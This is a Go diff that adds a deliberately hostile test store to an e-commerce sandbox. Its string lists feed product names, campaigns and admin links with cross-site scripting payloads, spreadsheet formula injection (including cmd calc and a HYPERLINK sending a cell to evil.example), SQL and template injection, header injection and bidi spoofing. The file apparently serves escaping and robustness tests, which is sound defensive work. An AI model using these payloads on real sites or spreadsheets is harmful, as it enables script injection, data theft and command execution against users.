@@ -1,0 +1,121 @@
+package sandbox
+
+import (
+	"fmt"
+	"hash/fnv"
+	"strings"
+)
+
+// grimTexts are strings that break pages, spreadsheets, mails, terminals and databases that trust what they show.
+var grimTexts = []string{
+	`<script>window.pwned=1</script>`,
+	`</script><script>window.pwned=2</script>`,
+	`"><img src=x onerror="window.pwned=3">`,
+	`</textarea></title></style><svg onload=window.pwned=4>`,
+	`=HYPERLINK("http://evil.example/?x="&A1,"total")`,
+	`+cmd|'/C calc'!A0`,
+	`-2+3+cmd|' /C calc'!A0`,
+	`@SUM(1+1)*cmd|' /C calc'!A0`,
+	"\t=1+1",
+	"\r\nX-Injected: yes\r\n\r\n<h1>body</h1>",
+	"تخفيض 20٪ على الأحذية (جديد) 123",
+	"מבצע: \"שתיים במחיר אחת\" – 50%",
+	"\u202Egpj.exe offer\u202C and \u2066isolated\u2069 \u200Fmark",
+	"\u2067never closed isolate \u202Enever closed override",
+	"👩‍👩‍👧‍👦🏳️‍🌈🇯🇵👍🏽 zero\u200Bwidth\u200Djoin\uFEFFbom",
+	"Z̵̧̛͓a̶͖̍l̷̰̈g̴̱̈́o̵̢͝ " + strings.Repeat("é́́́", 8),
+	strings.Repeat("W", 300),
+	strings.Repeat("long words and more of them ", 11)[:300],
+	`back\slash \" quote ' tick ` + "`" + ` \u003c \x00 %00 %s %d %n {0}`,
+	`'; drop table offers; --`,
+	`{{.Secret}} {{7*7}} ${7*7} #{7*7} <%= 7*7 %> [[7*7]] @(1+1)`,
+	"`${alert(1)}` });alert(1)//",
+	`javascript:alert(document.domain)`,
+	`&lt;b&gt; &amp;amp; &#x202e; &nbsp;`,
+	"line one\nline two\u2028line three\u2029line four\u0085five",
+	"bell\a escape\x1b[31mred\x1b[0m backspace\b delete\x7f",
+	"nul \x00 inside",
+	"   leading and trailing spaces   ",
+	"null", "NaN", "undefined", "__proto__", "1e309", "-0",
+	`<!-- comment --><![CDATA[ cdata ]]><?php echo 1 ?>`,
+	`<a href="http://evil.example">click</a><base href="//evil.example/"><meta http-equiv=refresh content=0>`,
+	"ＦＵＬＬ　ＷＩＤＴＨ ŞşİıẞSS ﬁ ﷽",
+}
+
+// grimURLs stand where a link to the admin should; the first two are what a page may link to.
+var grimURLs = []string{
+	"", // the ordinary one
+	"https://grim.example/admin/offers?a=1&b=%22%3E%3Cscript%3E",
+	"javascript:alert(1)",
+	"JaVaScRiPt:alert(1)//https://grim.example/admin",
+	"http://grim.example/admin/offers/plain",
+	"data:text/html,<script>alert(1)</script>",
+	"//evil.example/admin",
+	"/relative/admin",
+	"https://grim.example@evil.example/admin",
+	" \tjavascript:alert(2)",
+	"vbscript:msgbox(1)",
+	"https://grim.example/\" onmouseover=\"alert(1)",
+	"https:/\\evil.example\u202E/gro.elpmaxe",
+	"not a url at all \x00 <b>",
+}
+
+// grim sells in Nairobi and writes every string as an attacker or an accident would; see Config.Hostile. Its domain, zone, currency,
+// statuses, placements and dates are those of an ordinary store.
+func grim() shopPlan {
+	plan := shopPlan{
+		slug: "grim", name: `<b>Grim</b> & "Sons" ` + "\u202E💀</script>=1+1", domain: "grim.example", zone: "Africa/Nairobi", currency: "KES", digits: 2,
+		hostile: true, daily: 60, week: weekOf(1, 1, 1, 1), swing: 0.05, peak: 90, basket: 4200, seen: [placements]float64{0.9, 0.95, 0.5, 0.4},
+		gift: giftPlan{
+			plan: `<script>window.pwned=5</script>`, platform: `=1+1`, paid: true, theme: grimTexts[3], blocks: true, embed: true,
+		},
+	}
+	for i, text := range grimTexts {
+		plan.products = append(plan.products, product{text, int64(9900 + 5000*i)})
+		plan.catalog.kinds = append(plan.catalog.kinds, grimTexts[i/5])
+	}
+	plan.products = append(plan.products, product{grimTexts[0], 77700}) // a second one of the same title
+	plan.catalog.collections = grimTexts[1:7]
+	plan.catalog.tags = grimTexts[10:18]
+	plan.catalog.lost = grimTexts[:2]
+	plan.catalog.lostCollections = grimTexts[2:3]
+	texts := len(grimTexts)
+	for i := range texts + 11 { // every placement gets other texts the second time
+		o := offerPlan{
+			name: grimTexts[i%texts], at: placement((i + i/texts) % int(placements)), product: i % texts, off: i % 4 * 10, start: 3 + 7*i, weight: 1,
+			accept: 0.04 + 0.01*float64(i%6), abTest: i%5 == 0, url: grimURLs[i%len(grimURLs)],
+		}
+		if o.at == postPurchase {
+			o.then = 1 + i%(texts-1)
+		}
+		switch i % 9 {
+		case 3:
+			o.end = o.start + 60
+		case 5:
+			o.start, o.lead = 520+7*i, 120+7*i
+		case 7:
+			o.gone = 470
+		}
+		plan.offerPlans = append(plan.offerPlans, o)
+	}
+	plan.offerPlans[1].oddID = `<i>&"'%41?#;=é 💀`
+	for i := range 12 {
+		plan.campaigns = append(plan.campaigns, campaignPlan{
+			name: grimTexts[3*i], code: grimTexts[3*i+1], kind: "order_value", page: "cart", start: 10 + 20*i, from: 400000, rate: 0.02,
+		})
+	}
+	for i := range 20 {
+		plan.edits = append(plan.edits, edit{day: firstEdit + i, does: renamed, plan: 2 * i, to: fmt.Sprint(grimTexts[(2*i+9)%texts], " ", i)})
+	}
+	return plan
+}
+
+// word is a word of the service itself; in the hostile store it has something behind it, always the same.
+func (sh *shop) word(s string) string {
+	if !sh.hostile {
+		return s
+	}
+	h := fnv.New32a()
+	_, _ = h.Write([]byte(s))
+	return s + " " + grimTexts[int(h.Sum32()%uint32(len(grimTexts)))]
+}
